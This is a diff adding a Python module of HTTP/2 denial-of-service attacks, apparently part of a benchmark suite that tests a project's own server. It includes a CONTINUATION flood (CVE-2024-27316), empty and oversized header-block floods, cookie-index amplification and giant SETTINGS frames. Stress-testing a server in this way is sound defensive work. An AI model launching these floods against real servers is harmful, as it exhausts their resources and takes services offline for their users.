@@ -1,0 +1,85 @@
+"""Attacks by header blocks: without an end, or cheap to send and costly to decode."""
+
+from collections.abc import Callable
+from functools import partial
+
+from benchmarks.attacks.link import CLASSIFY, Attack, Link, Pieces, block, cancel, headers, literal
+from serving.transport import frames
+
+_LARGE_BLOCK_BYTES = 36 * 1024
+_COOKIES_A_BLOCK = 8000
+_EMPTY_HEADERS_A_BLOCK = 1500
+_ENTRIES_OF_SETTINGS = 2730
+
+
+def _continuations(link: Link) -> Pieces:
+    """Send a header block that does not end (CVE-2024-27316)."""
+    yield from link.ready()
+    stream = link.next_stream()
+    yield frames.frame(frames.HEADERS, 0, stream, block(CLASSIFY))
+    piece = literal("x", "y" * 1000) * 15
+    while True:
+        yield frames.frame(frames.CONTINUATION, 0, stream, piece)
+
+
+def _empty_continuations(link: Link) -> Pieces:
+    """Send a header block that does not end, in frames without a byte of it."""
+    yield from link.ready()
+    stream = link.next_stream()
+    yield frames.frame(frames.HEADERS, 0, stream, block(CLASSIFY))
+    while True:
+        yield frames.frame(frames.CONTINUATION, 0, stream) * 1000
+
+
+def _blocks(link: Link, make: Callable[[], bytes], closed: bool = False) -> Pieces:
+    """Send a block again and again, each time on a new stream, or all on one that is closed."""
+    yield from link.ready()
+    header_block = make()
+    stream = link.next_stream()
+    yield headers(stream, CLASSIFY) + cancel(stream)
+    while True:
+        if not closed:
+            stream = link.next_stream()
+        yield frames.header_frames(stream, header_block, True)
+
+
+def _cookies(link: Link) -> Pieces:
+    """Name one cookie thousands of times, a byte each, by its place in the table."""
+    yield from link.ready()
+    stream = link.next_stream()
+    yield frames.header_frames(stream, block(CLASSIFY) + b"\x60\x03a=b", True)
+    while True:
+        yield frames.header_frames(link.next_stream(), block(CLASSIFY) + b"\xbe" * _COOKIES_A_BLOCK, True)
+
+
+def _giant_settings(link: Link) -> Pieces:
+    yield from link.ready()
+    entry = frames.settings({frames.INITIAL_WINDOW_SIZE: 2**16})[frames.HEAD.size :]
+    while True:
+        yield frames.frame(frames.SETTINGS, 0, 0, entry * _ENTRIES_OF_SETTINGS)
+
+
+def _large_block() -> bytes:
+    return block(CLASSIFY) + literal("x", "y" * 100) * (_LARGE_BLOCK_BYTES // 105)
+
+
+def _block_below_limits() -> bytes:
+    """Return a block of less than 128 headers and 16 KB."""
+    return block(CLASSIFY) + literal("x", "y" * 100) * 110
+
+
+def _empty_block() -> bytes:
+    """Return names and values of no character, written in Huffman's code."""
+    return b"\x83\x86\x84" + b"\x00\x80\x80" * _EMPTY_HEADERS_A_BLOCK
+
+
+HEADER_BLOCKS = (
+    Attack("continuation flood", _continuations),
+    Attack("empty continuations", _empty_continuations),
+    Attack("empty Huffman headers", partial(_blocks, make=_empty_block)),
+    Attack("header blocks on a closed stream", partial(_blocks, make=_large_block, closed=True)),
+    Attack("header blocks on new streams", partial(_blocks, make=_large_block)),
+    Attack("header blocks below the limits", partial(_blocks, make=_block_below_limits)),
+    Attack("many cookies", _cookies),
+    Attack("giant SETTINGS", _giant_settings),
+)
